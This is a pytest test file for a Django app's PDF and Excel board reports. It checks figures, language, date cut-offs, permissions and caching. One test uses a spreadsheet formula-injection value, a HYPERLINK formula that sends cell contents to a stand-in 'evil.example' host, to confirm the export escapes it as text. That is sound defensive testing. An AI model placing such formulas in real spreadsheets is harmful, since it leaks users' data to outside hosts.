import datetime as dt
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook
from pypdf import PdfReader

from localret.reporting import report
from localret.strategy import interface as strategy

from ..conftest import api_client, client_for, speaking
from .factories import small_plan

pytestmark = pytest.mark.django_db
AS_OF = dt.date(2021, 1, 31)


def _pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def test_pdf_figures_equal_the_dashboard(board_user):
    plan = small_plan()
    response = client_for(board_user).get(f"/reports/plans/{plan.slug}.pdf?as_of={AS_OF}&lang=en")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = _pdf_text(response.content)
    tree = strategy.plan_outline(plan, AS_OF)
    assert "Board report" in text
    with translation.override("en"):  # the report's language
        assert report.pct(tree["progress"]) in text
        nodes = [n for o in tree["objectives"] for n in [o, *o["action_lines"]]]
        assert len(nodes) == 5
        flat = " ".join(text.split())
        for node in nodes:
            assert f"{node['code']} {node['name']} {report.pct(node['progress'])}" in flat, node
    assert "As of Jan. 31, 2021" in text  # dates in the report's language, not ISO


def test_xlsx_cells_equal_the_dashboard(staff_user):
    plan = small_plan()
    response = api_client(staff_user).get(f"/reports/plans/{plan.slug}.xlsx?as_of={AS_OF}")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    tree = strategy.plan_outline(plan, AS_OF)
    rows = list(wb.worksheets[1].iter_rows(min_row=2, values_only=True))
    by_code = {r[1]: r for r in rows}
    for o in tree["objectives"]:
        for node in [o, *o["action_lines"]]:
            row = by_code[node["code"]]
            assert (
                row[3] == pytest.approx(node["progress"])
                if node["progress"] is not None
                else row[3] is None
            )
            # labels, never codes (issue 14), and real numbers with a number format
            with translation.override("ca"):
                assert row[5] == str(report.STATUS_LABELS[node["status"]])
            assert "_" not in row[5]
    progress_cells = [c for c in wb.worksheets[1]["D"][1:] if c.value is not None]
    assert progress_cells and all(c.number_format == "0.0%" for c in progress_cells)
    assert wb.worksheets[1]["A1"].value == "Nivell"  # headings in the report's language
    assert wb.worksheets[1]["A1"].font.bold and wb.worksheets[1].freeze_panes == "A2"
    assert [ws.title for ws in wb.worksheets][:2] == ["Resum", "Objectius i línies"]
    indicators = {r[0]: r for r in wb.worksheets[2].iter_rows(min_row=2, values_only=True)}
    for ind in strategy.indicator_rows(plan, AS_OF):
        assert indicators[ind["code"]][8] == pytest.approx(ind["current"])
    # measurements after the as-of date are not in the report
    dates = [r[1] for r in wb.worksheets[3].iter_rows(min_row=2, values_only=True)]
    assert dates and max(d.date() if hasattr(d, "date") else d for d in dates) <= AS_OF


def test_report_is_reproducible_and_ignores_later_data(staff_user):
    from decimal import Decimal

    from localret.strategy.models import Indicator, Measurement

    plan = small_plan()
    data1 = report.build(plan, AS_OF, "ca")
    Measurement.objects.create(
        indicator=Indicator.objects.first(), date=dt.date(2022, 1, 1), value=Decimal(99)
    )
    data2 = report.build(plan, AS_OF, "ca")
    strip = lambda d: {k: v for k, v in d.items() if k != "indicators"}  # noqa: E731
    assert strip(data1) == strip(data2)
    assert [i["measurements"] for i in data1["indicators"]] == [
        i["measurements"] for i in data2["indicators"]
    ]


def test_report_language(staff_user):
    plan = small_plan()
    ca = _pdf_text(
        client_for(staff_user).get(f"/reports/plans/{plan.slug}.pdf?as_of={AS_OF}&lang=ca").content
    )
    en = _pdf_text(
        client_for(staff_user).get(f"/reports/plans/{plan.slug}.pdf?as_of={AS_OF}&lang=en").content
    )
    assert "Board report" in en
    assert "Board report" not in ca


def test_background_job_records_progress_and_serves_the_file(board_user):
    from localret.reporting.models import ReportJob

    plan = small_plan()
    client = client_for(board_user)
    response = client.post(
        "/informes/", {"plan": plan.slug, "as_of": "2021-01-31", "format": "xlsx", "lang": "en"}
    )
    assert response.status_code == 302
    job = ReportJob.objects.get()
    assert (job.status, job.progress) == ("done", 100)
    page = speaking(client, "en").get(f"/informes/feines/{job.pk}/")
    assert page.status_code == 200
    download = client.get(f"/informes/feines/{job.pk}/descarrega")
    assert download.status_code == 200
    load_workbook(io.BytesIO(download.content))


@pytest.mark.parametrize(
    "who,status",
    [
        ("admin", 200),
        ("staff", 200),
        ("board", 200),
        ("vic", 403),
        ("olot", 403),
        ("collaborator", 403),
    ],
)
@pytest.mark.parametrize("fmt", ["pdf", "xlsx"])
def test_report_permission_matrix(users, who, status, fmt):
    plan = small_plan()
    url = f"/reports/plans/{plan.slug}.{fmt}?as_of=2021-01-31"
    assert client_for(users[who]).get(url).status_code == status
    if who in ("staff", "vic"):
        assert api_client(users[who]).get(url).status_code == status


def test_report_public_is_401_with_bearer_or_redirected(db):
    plan = small_plan()
    url = f"/reports/plans/{plan.slug}.pdf"
    assert client_for(None).get(url).status_code == 302
    assert client_for(None).get(url, HTTP_AUTHORIZATION="Bearer nope").status_code == 401


def test_report_bad_date_and_unknown_plan(staff_user):
    small_plan()
    assert (
        client_for(staff_user).get("/reports/plans/pla-informe.pdf?as_of=2021-13-01").status_code
        == 400
    )
    assert client_for(staff_user).get("/reports/plans/nope.pdf").status_code == 404
    # The plan did not exist yet at that date: strategy's NotFound, answered 404 once for pages.
    assert (
        client_for(staff_user).get("/reports/plans/pla-informe.pdf?as_of=1990-01-01").status_code
        == 404
    )


@pytest.mark.parametrize(
    "who,status",
    [
        ("admin", 200),
        ("staff", 200),
        ("board", 200),
        ("vic", 403),
        ("olot", 403),
        ("collaborator", 403),
        ("public", 302),
    ],
)
def test_reports_page_permission_matrix(users, who, status):
    assert client_for(users[who]).get("/informes/").status_code == status


def test_report_indicators_equal_strategys_indicator_detail():
    from localret.strategy.models import Indicator
    from localret.strategy.selectors import indicator_detail

    plan = small_plan()
    rows = {r["code"]: r for r in strategy.indicator_rows(plan, AS_OF)}
    assert len(rows) == 3
    for indicator in Indicator.objects.all():
        detail = indicator_detail(indicator, AS_OF)
        row = rows[indicator.code]
        assert row["current"] == pytest.approx(detail.current_value)
        assert row["progress"] == pytest.approx(detail.progress)
        assert row["status"] == detail.status
        assert row["measurements"] == [(d, pytest.approx(v)) for d, v in detail.series]
        fc = detail.forecast
        assert row["forecast"]["value_at_target_date"] == (
            pytest.approx(fc.value_at_target_date) if fc.value_at_target_date is not None else None
        )


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_board_xlsx_writes_a_hostile_name_as_text(staff_user):
    plan = small_plan(name=HOSTILE)
    response = api_client(staff_user).get(f"/reports/plans/{plan.slug}.xlsx?as_of={AS_OF}")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    texts = [
        cell
        for sheet in wb.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str)
    ]
    assert "'" + HOSTILE in texts
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@")]


def test_the_same_report_is_built_once_per_data_version(board_user, monkeypatch):
    from decimal import Decimal

    from localret.strategy.models import Indicator, Measurement

    plan = small_plan()
    renders = []
    real = report.render_pdf
    monkeypatch.setattr(report, "render_pdf", lambda data: renders.append(1) or real(data))
    client = client_for(board_user)
    url = f"/reports/plans/{plan.slug}.pdf?as_of={AS_OF}&lang=ca"
    first = client.get(url).content
    assert client.get(url).content == first  # a second click, or another Board member
    assert len(renders) == 1
    client.get(f"/reports/plans/{plan.slug}.pdf?as_of={AS_OF}&lang=en")  # another document
    assert len(renders) == 2
    # Any write gives a new document at the next request (here a measurement within the date).
    Measurement.objects.create(
        indicator=Indicator.objects.filter(code__startswith=plan.slug).first(),
        date=dt.date(2021, 1, 15),
        value=Decimal(77),
    )
    assert client.get(url).content != first
    assert len(renders) == 3


def test_board_xlsx_summaries_are_numbers_with_their_format(staff_user):
    """The maturity and connectivity sheets hold figures as numbers (a share as a percentage,
    a count as a whole number), not the text the PDF prints."""
    from localret.territory.models import Municipality
    from tests.maturity.factories import bulk_validated, make_campaign

    plan = small_plan()
    codes = list(Municipality.objects.order_by("code").values_list("code", flat=True)[:12])
    bulk_validated(
        make_campaign(), {c: 0.2 + 0.06 * i for i, c in enumerate(codes)}, on=dt.date(2021, 1, 10)
    )
    response = api_client(staff_user).get(f"/reports/plans/{plan.slug}.xlsx?as_of={AS_OF}")
    wb = load_workbook(io.BytesIO(response.content))
    sheet = wb["Maduresa"]
    figures = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assessed = figures["Municipis amb una avaluació validada"]
    assert assessed.value == 12 and assessed.number_format == "#,##0"
    share = figures["Percentatge al nivell 3 o superior"]
    assert isinstance(share.value, float) and 0 <= share.value <= 1
    assert share.number_format == "0.0%"
    assert not [c.value for c in sheet["B"][1:] if isinstance(c.value, str)]
